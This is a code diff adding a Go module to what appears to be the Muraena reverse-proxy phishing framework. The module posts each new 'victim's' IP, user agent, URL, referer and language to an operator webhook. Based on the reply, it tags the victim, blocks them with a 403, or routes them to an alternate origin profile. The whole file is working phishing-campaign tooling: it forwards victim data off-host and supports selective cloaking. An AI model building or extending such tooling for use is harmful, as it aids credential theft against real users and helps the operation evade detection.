@@ -0,0 +1,146 @@
+package tracking
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net/http"
+	"sync"
+	"time"
+
+	"github.com/muraenateam/muraena/core/db"
+	"github.com/muraenateam/muraena/session"
+)
+
+// enrichmentMaxBodySize bounds the response of the webhook
+const enrichmentMaxBodySize = 64 << 10
+
+// Enrichment is the decision of the enrichment webhook on a victim
+type Enrichment struct {
+	// Tags are reported with the victim
+	Tags []string `json:"tags,omitempty"`
+	// Block answers the requests of the victim with a 403, without reaching the target
+	Block bool `json:"block,omitempty"`
+	// Profile is the routing profile whose origin serves the victim instead of the target
+	Profile string `json:"profile,omitempty"`
+}
+
+// enrichmentRequest is the body posted to the webhook for a new victim
+type enrichmentRequest struct {
+	Victim   string `json:"victim"`
+	IP       string `json:"ip"`
+	UA       string `json:"ua"`
+	Host     string `json:"host"`
+	URL      string `json:"url"`
+	Referer  string `json:"referer,omitempty"`
+	Language string `json:"language,omitempty"`
+}
+
+// enricher calls the enrichment webhook once per new victim, synchronously, keeping its decisions in memory
+type enricher struct {
+	url      string
+	token    string
+	client   *http.Client
+	failure  Enrichment
+	profiles map[string]bool
+
+	mu      sync.RWMutex
+	victims map[string]*Enrichment
+}
+
+// newEnricher returns the enricher of the configuration, nil if disabled
+func newEnricher(s *session.Session) *enricher {
+	config := s.Config.Tracking.Enrichment
+	if !config.Enabled {
+		return nil
+	}
+
+	e := &enricher{
+		url:      config.URL,
+		token:    config.Token,
+		client:   &http.Client{Timeout: time.Duration(config.Timeout) * time.Millisecond},
+		failure:  Enrichment{Block: config.Failure == "block"},
+		profiles: make(map[string]bool),
+		victims:  make(map[string]*Enrichment),
+	}
+	for _, p := range config.Profiles {
+		e.profiles[p.Name] = true
+	}
+
+	return e
+}
+
+// Enrich calls the webhook for the new victim, returning its decision, or the failure one if the webhook fails
+func (e *enricher) Enrich(victim *db.Victim, request *http.Request) (*Enrichment, error) {
+	decision, err := e.call(enrichmentRequest{
+		Victim:   victim.ID,
+		IP:       victim.IP,
+		UA:       victim.UA,
+		Host:     request.Host,
+		URL:      request.URL.RequestURI(),
+		Referer:  request.Referer(),
+		Language: request.Header.Get("Accept-Language"),
+	})
+	if err != nil {
+		failure := e.failure
+		decision = &failure
+	} else if decision.Profile != "" && !e.profiles[decision.Profile] {
+		err = fmt.Errorf("unknown routing profile %s", decision.Profile)
+		decision.Profile = ""
+	}
+
+	e.mu.Lock()
+	e.victims[victim.ID] = decision
+	e.mu.Unlock()
+
+	return decision, err
+}
+
+func (e *enricher) call(body enrichmentRequest) (*Enrichment, error) {
+	data, err := json.Marshal(body)
+	if err != nil {
+		return nil, err
+	}
+
+	req, err := http.NewRequest(http.MethodPost, e.url, bytes.NewReader(data))
+	if err != nil {
+		return nil, err
+	}
+	req.Header.Set("Content-Type", "application/json")
+	if e.token != "" {
+		req.Header.Set("Authorization", "Bearer "+e.token)
+	}
+
+	resp, err := e.client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode == http.StatusNoContent {
+		return &Enrichment{}, nil
+	}
+	if resp.StatusCode/100 != 2 {
+		io.Copy(ioutil.Discard, resp.Body)
+		return nil, fmt.Errorf("enrichment webhook returned %s", resp.Status)
+	}
+
+	decision := &Enrichment{}
+	if err = json.NewDecoder(io.LimitReader(resp.Body, enrichmentMaxBodySize)).Decode(decision); err != nil {
+		return nil, fmt.Errorf("invalid enrichment webhook response: %w", err)
+	}
+	return decision, nil
+}
+
+// Enrichment returns the decision of the enrichment webhook on the victim, nil if the victim was not enriched
+func (module *Tracker) Enrichment(id string) *Enrichment {
+	if module == nil || module.enricher == nil || id == "" {
+		return nil
+	}
+
+	module.enricher.mu.RLock()
+	defer module.enricher.mu.RUnlock()
+	return module.enricher.victims[id]
+}